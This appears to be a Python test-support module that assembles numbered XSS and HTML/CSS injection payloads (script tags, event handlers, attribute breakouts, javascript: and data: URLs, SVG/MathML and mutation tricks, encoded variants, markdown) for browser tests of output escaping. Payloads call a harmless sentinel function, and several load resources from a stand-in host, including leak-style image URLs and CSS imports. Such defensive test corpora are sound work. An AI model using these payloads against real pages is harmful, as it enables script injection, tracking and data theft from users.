"""Texts that attack whoever reads a page made of them. All of them are written for this program.

``RUN`` becomes a call of ``sentinel`` with the number of the text, which the browser tests listen to; ``PUBLIC`` is
a host that nobody has. What attacks terminals, spreadsheets, queries and templates lies in the modules beside.
"""

from tests.support.hostile_text_elsewhere import FORMULAS, TEMPLATES, UNSEEN

__all__ = ["FORMULAS", "MARKDOWN", "PAYLOADS", "REQUESTS", "SCRIPTS", "STYLES", "TEMPLATES", "UNSEEN"]

PUBLIC = "tracker.example"

_SCRIPT = r"""
<script>RUN</script>
<ScRiPt>RUN</sCrIpT>
<script/x>RUN</script>
<script	>RUN</script	>
<script >RUN;//</script x>
<<script>RUN;//<</script>
<script>RUN<!-- --></script>
<script><!--
RUN
--></script>
<script type=module>RUN</script>
<script type=text/javascript>RUN</script>
<script language=javascript>RUN</script>
<script src=data:text/javascript,RUN></script>
<script>setTimeout("RUN")</script>
<script>Function("RUN")()</script>
<script>eval("RUN")</script>
<script>import("data:text/javascript,RUN")</script>
<script>var s=document.createElement("script");s.text="RUN";document.head.append(s)</script>
<script>window["sen"+"tinel"](NUMBER)</script>
<script>[NUMBER].forEach(sentinel)</script>
<script>Reflect.apply(sentinel,null,[NUMBER])</script>
<script>sentinel`NUMBER`</script>
<script>queueMicrotask(()=>RUN)</script>
<script>alert(NUMBER)</script>
"""
_HANDLERS = r"""
<img src=x onerror=RUN>
<img src='x' onerror="RUN">
<img/src=x/onerror=RUN>
<IMG SRC=x ONERROR=RUN>
<img src=x	onerror	=	RUN>
<img src=x onerror="RUN" alt='">'>
<img src onerror=RUN//
<image src=x onerror=RUN>
<img src=data:, onerror=RUN>
<img srcset=x onerror=RUN>
<body onload=RUN>
<details open ontoggle=RUN>x</details>
<video><source onerror=RUN></video>
<video src=x onerror=RUN></video>
<audio src=x onerror=RUN></audio>
<video poster=x onerror=RUN><source src=x onerror=RUN></video>
<input autofocus onfocus=RUN>
<input type=image src=x onerror=RUN>
<select autofocus onfocus=RUN></select>
<button autofocus onfocus=RUN>x</button>
<a href=# tabindex=1 autofocus onfocus=RUN>x</a>
<div contenteditable autofocus onfocus=RUN>x</div>
<marquee onstart=RUN>x</marquee>
<style onload=RUN></style>
<link rel=stylesheet href=data:text/css, onload=RUN>
<link rel=stylesheet href=x onerror=RUN>
<object data=x onerror=RUN></object>
<embed src=data:text/html, onload=RUN>
<iframe onload=RUN></iframe>
<iframe src=about:blank onload=RUN></iframe>
<frameset onload=RUN><frame></frameset>
<p style=animation:x onanimationstart=RUN><style>@keyframes x{}</style>
<p style=transition:1ms;color:red onmouseover=RUN>x</p>
<x onclick=RUN tabindex=1 id=x>x</x>
<x/onpointerenter=RUN style=position:fixed;inset:0>
<dialog open oncancel=RUN onclose=RUN>x</dialog>
<form onsubmit=RUN><button>x</button></form>
<track src=x onerror=RUN>
<input oninput=RUN value=x>
<textarea autofocus onfocus=RUN>
"""
_BREAKOUTS = r"""
"><script>RUN</script>
'><script>RUN</script>
`><script>RUN</script>
--><script>RUN</script>
--!><script>RUN</script>
]]><script>RUN</script>
?><script>RUN</script>
%><script>RUN</script>
*/</style><script>RUN</script>
</title><script>RUN</script>
</style><script>RUN</script>
</textarea><script>RUN</script>
</noscript><script>RUN</script>
</template><script>RUN</script>
</iframe><script>RUN</script>
</select><script>RUN</script>
</script><script>RUN</script>
</q></bdi></span><script>RUN</script>
</pre></td></tr></table><script>RUN</script>
</svg></math><script>RUN</script>
</body></html><script>RUN</script>
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
x"><svg onload=RUN>
' onmouseover='RUN' x='
" onmouseover="RUN" x="
" autofocus onfocus="RUN" tabindex=1 x="
' autofocus onfocus='RUN' tabindex=1 x='
` onfocus=`RUN` autofocus x=`
x onerror=RUN
x" style="position:fixed;inset:0" onpointerenter="RUN
"/><base href="https://PUBLIC/
\"><script>RUN</script>
\x22><script>RUN</script>
<!--><script>RUN</script>-->
<![CDATA[><script>RUN</script>]]>
<?xml ?><script>RUN</script>
<!DOCTYPE x [<!ENTITY e "<script>RUN</script>">]>&e;
<plaintext>
<xmp>
<noembed><script>RUN</script></noembed>
<title>
"""
_ADDRESSES = r"""
javascript:RUN
JaVaScRiPt:RUN
 javascript:RUN
java	script:RUN
java&#9;script:RUN
javascript&colon;RUN
javascript:void(0)//%0aRUN
vbscript:msgbox(NUMBER)
data:text/html,<script>parent.RUN</script>
data:text/html;base64,PHNjcmlwdD5zZW50aW5lbCgpPC9zY3JpcHQ+
data:image/svg+xml,<svg/onload=parent.RUN>
blob:https://PUBLIC/0
file:///etc/passwd
view-source:https://PUBLIC/
//PUBLIC/path
\\PUBLIC\share
https:PUBLIC
http://me@PUBLIC:80/?a=b&c=d#e
https://xn--trcker-cua.example/
mailto:somebody@PUBLIC?subject=x&bcc=y
tel:+380441234567
<a href=javascript:RUN autofocus onfocus=RUN>x</a>
<iframe src=javascript:parent.RUN></iframe>
<iframe src="data:text/html,<script>parent.RUN</script>"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>
<object data=javascript:RUN></object>
<embed src=javascript:RUN>
<form action=javascript:RUN><input type=submit autofocus></form>
<button formaction=javascript:RUN form=x>x</button>
<area href=javascript:RUN>
<meta http-equiv=refresh content="0;url=javascript:RUN">
"""
_GRAPHICS = r"""
<svg onload=RUN></svg>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script>//&#10;RUN</script></svg>
<svg><script href=data:text/javascript,RUN /></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><set onbegin=RUN attributeName=x to=y dur=1s></svg>
<svg><animateTransform onbegin=RUN attributeName=transform dur=1s></svg>
<svg><a xlink:href=javascript:RUN><text y=9>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:RUN /><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=RUN /></svg>#x"/></svg>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><desc><img src=x onerror=RUN></desc></svg>
<svg><image href=x onerror=RUN></svg>
<svg><style>@import "https://PUBLIC/g.css";</style></svg>
<svg><filter><feImage href=https://PUBLIC/g.svg /></filter></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<math><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>
<math href=javascript:RUN>x</math>
<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>
"""
# What a sanitiser reads in one way and the browser in another.
_MUTATIONS = r"""
<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>
<template><script>RUN</script></template>
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">
<table><td><a><table><img src=x onerror=RUN></table></a></td></table>
<select><template><img src=x onerror=RUN></template></select>
<p id="<!--"><img src=x onerror=RUN><p id="-->">
<style><!--</style><script>RUN</script>--></style>
<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<a title="`<img src=x onerror=RUN>`">x</a>
<b <script>RUN</script>0
<img alt="<x" title="/><img src=x onerror=RUN>">
<div id=1</div><script>RUN</script>
<keygen autofocus onfocus=RUN><isindex onclick=RUN>
<svg><![CDATA[</svg><img src=x onerror=RUN>]]></svg>
<desc><svg><title><style><img src=x onerror=RUN></style></title></svg>
"""
_ENTITIES = r"""
&lt;script&gt;RUN&lt;/script&gt;
&lt;img src=x onerror=RUN&gt;
&#60;img src=x onerror=RUN&#62;
&#x3c;script&#x3e;RUN&#x3c;/script&#x3e;
&#0000060script&#0000062RUN
&LT;script&GT;RUN&LT;/script&GT;
&amp;lt;script&amp;gt;RUN
&NewLine;&Tab;&colon;&lpar;&rpar;
&quot;&apos;&grave;&#39;&#34;
&#0;&#x80;&#xd800;&#x110000;
&copy &copy; &notit; &notin;
"""
_ENCODINGS = """
\\u003cscript\\u003eRUN\\u003c/script\\u003e
\\x3cscript\\x3eRUN\\x3c/script\\x3e
%3Cscript%3ERUN%3C/script%3E
%253Cscript%253ERUN
+ADw-script+AD4-RUN+ADw-/script+AD4-
\uff1cscript\uff1eRUN\uff1c/script\uff1e
\u2039script\u203aRUN\u2039/script\u203a
\u00bcscript\u00beRUN\u00bc/script\u00be
\u00c0\u00bcscript>RUN</script>
<\u017fcript>RUN</\u017fcript>
<\u0131mg src=x onerror=RUN>
<scr\u200bipt>RUN</scr\u200bipt>
PHNjcmlwdD5zZW50aW5lbCgpPC9zY3JpcHQ+
<\u0455cript>RUN</\u0455cript>
\ufeff<script>RUN</script>
https://\uff54\uff52\uff41\uff43\uff4b\uff45\uff52.example/
"""
_REQUESTS = r"""
<img src=https://PUBLIC/p.png>
<img src=//PUBLIC/p.png>
<img srcset='https://PUBLIC/q.png 2x'>
<picture><source srcset=https://PUBLIC/q.webp><img src=x></picture>
<link rel=stylesheet href=https://PUBLIC/s.css>
<link rel=prefetch href=https://PUBLIC/x>
<link rel=preload as=image href=https://PUBLIC/x.png>
<link rel=icon href=https://PUBLIC/x.ico>
<link rel=dns-prefetch href=//PUBLIC>
<link rel=manifest href=https://PUBLIC/m.json>
<meta http-equiv=refresh content='0;url=https://PUBLIC/'>
<meta http-equiv=Set-Cookie content=a=b>
<base href=https://PUBLIC/>
<base target=_top>
<form action=https://PUBLIC/><button autofocus>x</button></form>
<svg><image href=https://PUBLIC/w.svg></image></svg>
<svg><use href=https://PUBLIC/u.svg#x></use></svg>
<a ping=https://PUBLIC/y href=#>x</a>
<iframe src=https://PUBLIC/></iframe>
<object data=https://PUBLIC/o></object>
<embed src=https://PUBLIC/e>
<video poster=https://PUBLIC/v.png src=https://PUBLIC/v.mp4></video>
<audio src=https://PUBLIC/a.mp3 autoplay></audio>
<input type=image src=https://PUBLIC/i.png>
<table background=https://PUBLIC/b.png><td background=https://PUBLIC/c.png>
<script src=https://PUBLIC/s.js></script>
<portal src=https://PUBLIC/></portal>
<img src="https://PUBLIC/leak?
<img src='https://PUBLIC/leak?
"""
_STYLES = r"""
"; } body { display: none } @page { content: "
*/ } * { display: none } /*
\22 ; } @import 'https://PUBLIC/z.css'; {
'; } body { display: none } /*
\"; } * { display: none } a { content: "
</style><style>body{display:none}
<style>@import url(https://PUBLIC/t.css);</style>
<style>*{background:url(https://PUBLIC/u.png)}</style>
<style>body{display:none}</style>
<style>@font-face{font-family:x;src:url(https://PUBLIC/f.woff)}*{font-family:x}</style>
<style>td[id^=E]{background:url(https://PUBLIC/e.png)}</style>
<p style='background:url(https://PUBLIC/v.png)'>x</p>
<p style="position:fixed;inset:0;background:white;z-index:9">PAID IN FULL</p>
<p style=content:url(https://PUBLIC/w.png)>x</p>
<p class="unseen left-out words" id=content hidden>x</p>
url(javascript:RUN) expression(RUN) -moz-binding:url(x)
@charset "utf-7"; @namespace x; @layer y;
<!-- } --> <![if IE]> -->
"""


def _texts(block: str, first: int) -> list[str]:
    """Number the lines of a block; the one that needs several lines is told by its comment."""
    lines = block.strip("\n").replace("<!--\nRUN\n-->", "<!--\vRUN\v-->").split("\n")
    return [_numbered(line.replace("\v", "\n"), first + at) for at, line in enumerate(lines)]


def _numbered(line: str, number: int) -> str:
    said = line.replace("RUN", f"sentinel({number})").replace("NUMBER", str(number))
    return said.replace("PUBLIC", PUBLIC)


_BLOCKS = {
    "script": _SCRIPT,
    "handlers": _HANDLERS,
    "breakouts": _BREAKOUTS,
    "addresses": _ADDRESSES,
    "graphics": _GRAPHICS,
    "mutations": _MUTATIONS,
    "entities": _ENTITIES,
    "encodings": _ENCODINGS,
    "requests": _REQUESTS,
    "styles": _STYLES,
}
MARKDOWN = [
    f"[click](https://{PUBLIC}/)",
    f"![picture](https://{PUBLIC}/p.png)",
    f"[![x](https://{PUBLIC}/p.png)](https://{PUBLIC}/)",
    f"<https://{PUBLIC}/>",
    f"<somebody@{PUBLIC}>",
    f"https://{PUBLIC}/path and www.{PUBLIC}",
    f"somebody@{PUBLIC}",
    f"[E7p]: https://{PUBLIC}/ 'x'",
    "[E7p][E7p]",
    "[E7p]",
    "[x](<javascript:sentinel(9001)>)",
    "[x](javascript&colon;sentinel(9002))",
    "[x]( data:text/html,x 'title')",
    "# A heading",
    "####### seven",
    "A heading\n===",
    "A heading\n---",
    "- a list\n- of two",
    "+ a list",
    "* a list",
    "1. a list",
    "1) a list",
    "- [ ] a task",
    "> a quotation",
    ">> twice",
    "```\nfenced",
    "~~~\nfenced",
    "``` html\n<b>x</b>\n```",
    "`` ` ``` code",
    "`open",
    "    indented",
    "\tindented",
    "| a | b |\n| --- | --- |\n| c | d |",
    "a | b",
    r"a \| b \\| c",
    "***\n\ntext",
    "___",
    "- - -",
    "a\\\nb  \nc",
    "~~gone~~ **bold** _soft_ __b__ *i* ***bi***",
    "a_b_c d*e*f",
    "<b>bold</b><br><!-- hidden -->",
    "<?php x ?> <!X> <![CDATA[x]]>",
    "</details><details open>",
    "&copy; &#x41; &nbsp;",
    "\\*not\\* \\[x\\](y) \\<b>",
    "$x^2$ $$y$$ :smile: [^1] ==m== H~2~O ^s^",
    "[^1]: a footnote",
    "*[abbr]: words",
    "{: .class #id onclick=x}",
    "::: warning\nx\n:::",
    "[[wiki]] @somebody #12 !include(x)",
    "term\n: definition",
    "---\ntitle: x\n---",
]

BY_CATEGORY: dict[str, list[str]] = {}
for _name, _block in _BLOCKS.items():
    BY_CATEGORY[_name] = _texts(_block, sum(map(len, BY_CATEGORY.values())))
BY_CATEGORY |= {"templates": TEMPLATES, "markdown": MARKDOWN, "formulas": FORMULAS, "unseen": UNSEEN}

# Each tries to run something where a page forgets to escape; the others load, hide, forge or confuse.
SCRIPTS = [
    text
    for name in (
        "script",
        "handlers",
        "breakouts",
        "addresses",
        "graphics",
        "mutations",
        "entities",
        "encodings",
    )
    for text in BY_CATEGORY[name]
]
REQUESTS = BY_CATEGORY["requests"]
STYLES = BY_CATEGORY["styles"]
# What a page is attacked with: everything but what only a shell of another kind would obey.
PAYLOADS = [text for texts in BY_CATEGORY.values() for text in texts]
